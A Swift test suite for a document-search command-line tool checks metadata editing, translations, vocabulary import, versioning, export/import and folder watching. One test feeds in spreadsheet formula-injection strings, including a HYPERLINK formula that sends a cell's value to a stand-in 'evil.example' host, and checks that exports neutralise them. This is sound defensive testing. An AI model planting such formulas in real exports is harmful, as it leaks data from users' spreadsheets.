import Foundation
import Testing

/// What curators do on the command line besides ingesting.
@Suite("Curators")
struct CuratorTests {
    private func run(_ box: Sandbox, _ arguments: String...) async throws -> Program.Outcome {
        try await Program.run(arguments + ["--toolbox", box.toolbox])
    }

    @Test("A description takes precedence over manifest and file; a removed value makes theirs effective again")
    func describe() async throws {
        let box = try Sandbox()
        try box.copyFixtures("centro-formazione-torino/formazione-apprendistato.pdf")
        let id = try #require(try await box.ingest("--country", "IT").files.first?["id"].string)
        let country = {
            try await run(box, "show", id, "--json").json(whole: true)["metadata"]["countries"].array.compactMap(
                \.string
            )
        }
        #expect(try await country() == ["IT"])
        #expect(try await run(box, "describe", id, "--set", "country=CH;AT", "--set", "title=Neu").code == 0)
        #expect(Set(try await country()) == ["AT", "CH"])
        // A later ingest does not change it, even with new flags.
        #expect(try await box.ingest("--country", "FR").code == 0)
        #expect(Set(try await country()) == ["AT", "CH"])
        #expect(
            try await run(box, "search", "neu", "--json").json(whole: true)["hits"].array.first?["title"].string
                == "Neu"
        )
        #expect(try await run(box, "describe", id, "--set", "country=").code == 0)
        #expect(try await country() == ["FR"])
        let wrong = try await run(box, "describe", id, "--set", "country=Itly", "--set", "visibilty=public")
        #expect(wrong.code == 1 && wrong.errors.contains("did you mean IT?") && wrong.errors.contains("visibility"))
        #expect(try await run(box, "describe", "nothing", "--set", "title=x").code == 1)
        let audit = try await run(box, "audit", "--json", "--document", id).json()
        #expect(audit.map { $0["action"].string } == ["described", "updated", "described", "added"])
        #expect(audit[2]["details"]["changed"]["title"]["to"].string == "Neu")
        #expect(try await box.check().code == 0)
    }

    @Test("Names that differ only in a language are suggested as translations; accepted ones become one hit")
    func translations() async throws {
        let box = try Sandbox()
        try box.write("# Sicherheit\n\nErasmus in der Werkstatt.", to: "guides/safety_de.md")
        try box.write("# Safety\n\nErasmus in the workshop.", to: "guides/safety_en.md")
        try box.write("# Sicurezza\n\nErasmus in officina.", to: "guides/safety-IT.md")
        try box.write("# Other\n\nErasmus elsewhere.", to: "other_de.md")
        let ingested = try await box.ingest()
        let id = { (name: String) in try #require(ingested.file("guides/\(name).md")["id"].string) }
        let report = try await run(box, "report")
        let offered = report.output.split(separator: "\n").filter { $0.contains("translationOf=") }
            .map { $0.split(separator: "#")[0].split(separator: " ").map(String.init) }
        #expect(
            try offered == [
                ["vetsearch", "describe", id("safety_de"), "--set", "translationOf=\(id("safety_en"))"],
                ["vetsearch", "describe", id("safety-IT"), "--set", "translationOf=\(id("safety_en"))"],
            ]
        )
        for command in offered {
            #expect(try await Program.run(command.dropFirst() + ["--toolbox", box.toolbox]).code == 0)
        }
        #expect(try await !run(box, "report").output.contains("translationOf="))
        let found = try await run(box, "search", "erasmus", "--json").json(whole: true)
        #expect(found["total"].int == 2)
        let hit = try #require(found["hits"].array.first { !$0["translations"].array.isEmpty })
        #expect(hit["translations"].array.count == 2)
        #expect(try await run(box, "search", "officina").output.contains("also in: de (\(id("safety_de"))), en ("))
        #expect(try await box.check().code == 0)
    }

    @Test("A thesaurus's concepts are topics; before one is removed, a dry run lists its documents")
    func concepts() async throws {
        let box = try Sandbox()
        let concept = "http://example.eu/trades/welding"
        let vocabulary = box.toolbox + "-trades.ttl"
        defer { try? FileManager.default.removeItem(atPath: vocabulary) }
        let turtle = { (concepts: String) in
            """
            @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
            <http://example.eu/trades> a skos:ConceptScheme .
            <http://example.eu/trades/metal> a skos:Concept ; skos:inScheme <http://example.eu/trades> ;
                skos:prefLabel "metal trades"@en, "Metallberufe"@de .
            \(concepts)
            """
        }
        try Data(
            turtle(
                """
                <\(concept)> a skos:Concept ; skos:inScheme <http://example.eu/trades> ; skos:prefLabel "welding"@en ;
                    skos:broader <http://example.eu/trades/metal> .
                """
            ).utf8
        ).write(to: URL(filePath: vocabulary))
        try box.write("# Seam\n\nHow to weld.", to: "seam.md")
        try box.write("file,topic\nseam.md,\(concept);guidance\n", to: "metadata.csv")
        let early = try await box.ingest()
        #expect(early.errors.contains("the concept '\(concept)' is in no vocabulary of this toolbox"))
        #expect(early.status("seam.md") == "indexed")
        let id = try #require(early.file("seam.md")["id"].string)
        #expect(try await run(box, "report").output.contains("\(id)  seam.md: \(concept)"))
        #expect(
            try await run(box, "describe", id, "--set", "topic=\(concept)-x").errors.contains(
                "is in no vocabulary of this toolbox"
            )
        )

        #expect(try await run(box, "vocabulary", "import", vocabulary, "--name", "trades").code == 0)
        #expect(try await run(box, "describe", id, "--set", "topic=\(concept)").code == 0)
        let found = try await run(box, "search", "--topic", "http://example.eu/trades/metal", "--json").json(
            whole: true
        )
        #expect(found["total"].int == 1)
        #expect(
            found["facets"]["topic"].array.map { "\($0["label"].string ?? "") \($0["count"].int ?? 0)" }
                == ["Metal trades 1", "Welding 1"]
        )

        try Data(turtle("").utf8).write(to: URL(filePath: vocabulary))
        for command in [["import", vocabulary], ["remove", "trades"]] {
            let dry = try await Program.run(
                ["vocabulary"] + command + ["--dry-run", "--toolbox", box.toolbox]
            )
            #expect(
                dry.code == 0 && dry.output.contains("1 document would be left with topics that are in no vocabulary")
            )
            #expect(dry.output.contains("  \(id)  seam.md: \(concept)\n"))
        }
        #expect(try await run(box, "vocabulary", "list").output.contains("concepts 2"))
        #expect(
            try await run(box, "vocabulary", "remove", "trades").output.contains(
                "1 document is left with topics that are in no vocabulary"
            )
        )
        #expect(try await run(box, "vocabulary", "list").output.contains("trades") == false)
        // The document keeps its topic, and can still be changed otherwise.
        #expect(try await run(box, "describe", id, "--set", "title=Seams").code == 0)
        #expect(try await run(box, "search", "--topic", concept, "--json").json(whole: true)["total"].int == 1)
        #expect(try await box.check().code == 0)
    }

    @Test("A removed document stays removed until it is added explicitly, and its file is reported")
    func remove() async throws {
        let box = try Sandbox()
        try box.write("# Bericht\n\nAus der Werkstatt.", to: "a.md")
        try box.write("# Anderes\n\nAus der Schule.", to: "b.md")
        let id = try #require(try await box.ingest().file("a.md")["id"].string)
        #expect(try await run(box, "remove", id).output.contains("removed  \(id)"))
        #expect(try await run(box, "remove", id).code == 1)
        let again = try await box.ingest()
        #expect(
            again.status("a.md") == "unchanged" && again.file("a.md")["reason"].string?.contains("removed from") == true
        )
        try FileManager.default.setAttributes([.modificationDate: Date()], ofItemAtPath: box.folder + "/a.md")
        #expect(try await box.ingest().status("a.md") == "unchanged")
        #expect(try await run(box, "search", "bericht", "--json").json(whole: true)["total"].int == 0)
        #expect(try await box.check().code == 0)
        #expect(try await run(box, "add", box.folder + "/a.md").output.hasPrefix("created"))
        #expect(try await run(box, "search", "bericht", "--json").json(whole: true)["total"].int == 1)
        // New content makes a document again.
        try box.write("# Bericht zwei\n\nAus der Lehrwerkstatt.", to: "a.md")
        #expect(try await box.ingest().status("a.md") == "indexed")
        #expect(try await box.check().code == 0)
    }

    @Test("A new file is a new version; old versions stay readable, searches show the newest")
    func versions() async throws {
        let box = try Sandbox()
        try box.write("# Bericht\n\nErste Fassung mit Zahnrad.", to: "a.md")
        try box.write("# Bericht\n\nZweite Fassung mit Hobel.", to: "b.md")
        #expect(try await run(box, "add", box.folder + "/a.md", "--id", "report", "--set", "country=DE").code == 0)
        #expect(try await run(box, "add", box.folder + "/a.md").output.hasPrefix("duplicate  report"))
        #expect(try await run(box, "add", box.folder + "/b.md", "--version-of", "report").output.contains("version 2"))
        #expect(try await run(box, "add", box.folder + "/b.md", "--version-of", "other").code == 1)
        #expect(try await run(box, "search", "zahnrad", "--json").json(whole: true)["total"].int == 0)
        #expect(try await run(box, "search", "hobel", "--country", "DE", "--json").json(whole: true)["total"].int == 1)
        let server = try await Server(toolbox: box.toolbox)
        let versions = try await server.request("/v1/documents/report/versions").json().array
        #expect(versions.map { $0["version"].int } == [1, 2])
        let first = try await server.request(versions[0]["url"].string ?? "")
        #expect(first.text.contains("Erste Fassung"))
        #expect(try await server.request("/v1/documents/report/file").text.contains("Zweite Fassung"))
        #expect(try await server.request("/v1/documents/report/file?version=3").status == 404)
        #expect(try await box.check().code == 0)
    }

    @Test(
        "Metadata is exported as a table and imported after editing; a dry run shows each change first",
        arguments: ["csv", "jsonl"]
    )
    func table(format: String) async throws {
        let box = try Sandbox()
        try box.copyFixtures("centro-formazione-torino")
        _ = try await box.ingest()
        _ = try await run(
            box,
            "add",
            "--id",
            "s1",
            "--set",
            "title=Story",
            "--set",
            "type=value-story",
            "--set",
            "fields.activity=Besuch; mit \"Zitat\", Komma\nund Zeile"
        )
        let file = box.path + "/table.\(format)"
        #expect(try await run(box, "export", "--format", format, "-o", file).code == 0)
        let before = try String(contentsOfFile: file, encoding: .utf8)
        let untouched = try await run(box, "import", file)
        #expect(
            untouched.code == 0 && untouched.output.hasPrefix("0 changed"),
            "\(untouched.output) \(untouched.errors)"
        )
        let edited = before.replacing("Story", with: "Geschichte").replacing("value-story", with: "value-story")
        try edited.write(toFile: file, atomically: true, encoding: .utf8)
        let dry = try await run(box, "import", file, "--dry-run")
        #expect(dry.output.contains("title: \"Story\" → \"Geschichte\"") && dry.output.contains("1 would change"))
        #expect(try await run(box, "show", "s1", "--json").json(whole: true)["title"].string == "Story")
        #expect(try await run(box, "import", file).output.contains("1 changed"))
        #expect(try await run(box, "show", "s1", "--json").json(whole: true)["title"].string == "Geschichte")
        let broken = edited.replacing("Geschichte", with: "").replacing("s1", with: "s2")
        try broken.write(toFile: file, atomically: true, encoding: .utf8)
        let unknown = try await run(box, "import", file)
        #expect(unknown.code == 1 && unknown.errors.contains("there is no document 's2'"))
        // Everything is restored, also in another toolbox.
        try edited.write(toFile: file, atomically: true, encoding: .utf8)
        let other = try Sandbox()
        _ = try await run(other, "token", "create", "--role", "member", "--name", "m")
        let moved = try await run(other, "import", file, "--create", "--format", format)
        #expect(moved.output.contains("s1  new"), "\(moved.output) \(moved.errors)")
        #expect(
            try await run(other, "show", "s1", "--json").json(whole: true)["fields"]["activity"].string?.contains("\n")
                == true
        )
    }

    @Test("No cell of an export is a formula, and an import removes the guards")
    func formulas() async throws {
        let box = try Sandbox()
        let texts = [
            "=HYPERLINK(\"https://evil.example?\"&A1;\"Guide\")", "+39 06 1234", "-1", "@SUM(A1:A9)", "'=1",
            "''quoted''",
            "'tis", "\t=1", "＝1+1", "=\u{301}1", "\"=1\"", "a;b,c\nd",
        ]
        for (number, text) in texts.enumerated() {
            let members: [String: String] = ["title": "T\(number)", "description": text, "text": text]
            let file = box.path + "/record.json"
            try JSONEncoder().encode(members).write(to: URL(filePath: file))
            let added = try await run(box, "add", "--id", "r\(number)", "--from", file)
            #expect(added.code == 0, "\(added.errors)")
        }
        let file = box.path + "/table.csv"
        #expect(try await run(box, "export", "-o", file).code == 0)
        // Read like a spreadsheet does: with Python's reader, not ours.
        let script = """
            import csv, sys
            rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
            print(len(rows), len({len(row) for row in rows}), sum(cell[:1] in tuple("=+-@\\t\\r\\n＝") for row in rows for cell in row if cell))
            """
        let read = try await Program.launch("python3", ["-c", script, file])
        #expect(read.output == "\(texts.count + 1) 1 0\n", "\(read.output) \(read.errors)")
        let untouched = try await run(box, "import", file)
        #expect(
            untouched.code == 0 && untouched.output.hasPrefix("0 changed"),
            "\(untouched.output) \(untouched.errors)"
        )
        let other = try Sandbox()
        _ = try await run(other, "token", "create", "--role", "member", "--name", "m")
        let moved = try await run(other, "import", file, "--create")
        #expect(moved.code == 0, "\(moved.errors)")
        for number in texts.indices {
            let here = try await run(box, "show", "r\(number)", "--json").json(whole: true)
            let there = try await run(other, "show", "r\(number)", "--json").json(whole: true)
            #expect(
                here["text"] == there["text"] && here["metadata"]["description"] == there["metadata"]["description"]
            )
        }
    }

    @Test("The report lists missing metadata, and searches without results made at least three times")
    func report() async throws {
        let box = try Sandbox()
        try box.write("Aus der Werkstatt.", to: "a.txt")
        try box.write(" \n\n", to: "empty.txt")
        _ = try await box.ingest("--country", "DE")
        let server = try await Server(toolbox: box.toolbox)
        for (text, times) in [("quantenlehre", 3), ("einmalig", 2), ("anna@example.eu", 4), ("werkstatt", 4)] {
            for _ in 0..<times { _ = try await server.search([("q", text)]) }
        }
        // The service writes its counts now and then, and when it ends.
        kill(server.processID, SIGTERM)
        _ = await server.ended(within: 120)
        let report = try await run(box, "report", "--json").json(whole: true)
        #expect(report["searchesWithoutHits"].array.map { $0["text"].string } == ["quantenlehre"])
        #expect(report["searchesWithoutHits"].array.first?["count"].int == 3)
        #expect(report["lacking"]["country"].int == 0 && report["lacking"]["licence"].int == 2)
        #expect(report["lacking"]["text"].int == 1)
        #expect(try await run(box, "report", "--lacking", "text").output.contains("empty.txt"))
        #expect(try await run(box, "report", "--lacking", "color").code == 64)
        let status = try await run(box, "status", "--json").json(whole: true)
        #expect(status["disk"]["originals"].int ?? 0 > 10 && status["disk"]["index"].int ?? 0 > 1000)
        #expect(status["audiences"]["public"].int == 2)
    }

    @Test("A watched folder is ingested continuously: new, changed and removed files, also in new folders")
    func watch() async throws {
        let box = try Sandbox()
        try box.write("# Eins\n\nZahnrad.", to: "one.md")
        let watched = try await Program.run(
            ["watch", box.folder, "--remove-missing", "--settle", "0.3", "--json", "--toolbox", box.toolbox]
        ) { process in
            let total = { (word: String) in
                try await Program.run(["search", word, "--json", "--toolbox", box.toolbox]).json(whole: true)["total"]
                    .int
            }
            let wait = { (word: String, wanted: Int) in
                for _ in 0..<150 {
                    if try await total(word) == wanted { return true }
                    try await Task.sleep(for: .milliseconds(100))
                }
                return false
            }
            while !FileManager.default.fileExists(atPath: box.toolbox + "/index") {
                try await Task.sleep(for: .milliseconds(50))
            }
            #expect(try await wait("zahnrad", 1))
            try box.write("# Zwei\n\nHobel.", to: "new/deep/two.md")
            #expect(try await wait("hobel", 1))
            try box.write("# Drei\n\nSäge.", to: "new/deep/three.md")
            #expect(try await wait("säge", 1))
            try FileManager.default.removeItem(atPath: box.folder + "/one.md")
            #expect(try await wait("zahnrad", 0))
            kill(process, SIGINT)
        }
        #expect(watched.code == 0, "\(watched.errors)")
        let paths = try watched.json().compactMap { $0["path"].string }
        #expect(paths == ["one.md", "new/deep/two.md", "new/deep/three.md"])
    }
}
